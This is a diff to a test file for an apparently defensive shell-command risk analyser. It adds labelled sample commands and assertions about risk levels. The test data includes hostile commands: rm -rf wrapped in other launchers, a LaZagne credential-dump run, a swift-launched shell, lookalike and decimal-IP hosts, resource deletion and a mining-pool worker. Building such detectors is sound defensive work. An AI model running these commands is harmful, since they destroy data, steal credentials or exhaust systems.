@@ -134,6 +134,13 @@ const attacks: Readonly<Record<string, readonly (readonly [KindId, string])[]>> 
     ['deletes-files', "make -f <(printf 'a:\\n\\trm -rf /data')"],
     ['deletes-files', "tmux send-keys 'rm -rf /data' Enter"],
     ['deletes-files', 'screen -dm rm -rf /data'],
+    ['deletes-files', "hyperfine -w 3 'rm -rf /data'"],
+    ['deletes-files', 'start-stop-daemon -S -x /bin/rm -- -rf /data'],
+    ['deletes-files', 'wsl -d Ubuntu rm -rf /data'],
+    ['deletes-files', "flatpak run --command=sh org.x -c 'rm -rf /data'"],
+    ['deletes-files', 'arch -x86_64 rm -rf /data'],
+    ['attacks-others', 'python3 /tmp/lazagne.py all'],
+    ['opens-shell', `swift -e 'let t=Process();t.launchPath="/bin/sh"'`],
     ['deletes-files', "printf 'rm -rf /data' | install -m755 /dev/stdin /tmp/s && /tmp/s"],
     ['loads-code', 'git --exec-path=/tmp/x evil'],
     ['loads-code', 'JAVA_TOOL_OPTIONS=-agentpath:/tmp/x.so java -version'],
@@ -191,6 +198,8 @@ const attacks: Readonly<Record<string, readonly (readonly [KindId, string])[]>> 
   'take trust where there is none': [
     ['suspicious-host', 'git clone https://githu\u042C.com/o/r'],
     ['suspicious-host', 'curl -o a https://xn--gthub-xua.com/a'],
+    ['suspicious-host', 'git clone https://github.com@x.example.net/o/r'],
+    ['suspicious-host', 'curl -o a http://3405803785/a'],
     ['suspicious-host', 'npm i --registry http://x.example.net left-pad'],
     ['disables-protection', 'apt-get install --allow-unauthenticated x'],
     ['disables-protection', 'git -c http.sslVerify=false fetch'],
@@ -216,6 +225,12 @@ const attacks: Readonly<Record<string, readonly (readonly [KindId, string])[]>> 
     ['exhausts', 'dd if=/dev/zero of=fill bs=1G count=1000'],
     ['deletes-resources', 'ibmcloud resource service-instance-delete x'],
     ['deletes-resources', 'twilio api:phone-numbers:remove X'],
+    ['deletes-resources', 'algolia indices clear products'],
+    ['deletes-resources', 'kafka-acls --remove --topic t'],
+    ['deletes-resources', 'promtool tsdb delete-series x'],
+    ['discards-work', 'git delete-merged-branches'],
+    ['stops-services', 'fastly service-version deactivate --version 1'],
+    ['exhausts', 'while true; do openssl speed; done'],
     ['wipes-device', 'diskutil eraseDisk JHFS+ Name disk2'],
     ['exhausts', './worker --pool stratum+tcp://pool.example.net:443'],
     ['exhausts', 'fallocate -l 500G /tmp/fill'],
@@ -308,6 +323,9 @@ const work: Readonly<Record<string, readonly string[]>> = {
     'kubectl set image deploy/web web=x:1 --dry-run=client',
     'gh api repos/o/r/issues/1/labels -X POST -f "labels[]=bug"',
     'gh repo view --json visibility',
+    'gh api -X GET repos/o/r/actions/secrets',
+    'kubectl get secrets -n web',
+    'some-unlisted cache clear',
     "gh issue create -t 'drop table users' -b x",
     'npm run db:migrate && make db-up',
     'openssl s_client -connect example.com:443 < /dev/null',
@@ -319,6 +337,7 @@ const work: Readonly<Record<string, readonly string[]>> = {
   ],
   'with servers and data of a test': [
     'npx http-server dist -p 8080 --silent & npx wait-on http://localhost:8080',
+    'python3 -m http.server 8000 --bind 127.0.0.1 & npm test',
     'mongoimport --db test --collection c --file seed.json',
     'RAILS_ENV=test bundle exec rails db:schema:load',
     'python3 -c "print(\'shutil.rmtree is dangerous\')"',
@@ -353,6 +372,22 @@ describe('a command that nobody has shown to the analyser', () => {
           `${command} ${JSON.stringify(assess(command).findings[0])}`,
         )
     })
+
+  it('is never low when a program that otherwise reads is to write or run', () => {
+    for (const command of [
+      `awk '{print > "x"}' f`,
+      'git log --output=x',
+      'git config --unset user.name',
+      'uniq a b',
+      'xxd a b',
+      'terraform fmt',
+      'terraform test',
+      'packer build x.pkr.hcl',
+      "fzf --bind 'enter:execute(tool {})'",
+      'rg --pre tool x',
+    ])
+      assert.equal(assess(command).riskLevel, 'medium', command)
+  })
 
   it('is never low when it is the project’s own program with the name of a tool that reads', () => {
     for (const command of ['./test --all', 'scripts/ls', './build/cat x', '../find', 'tools/echo'])
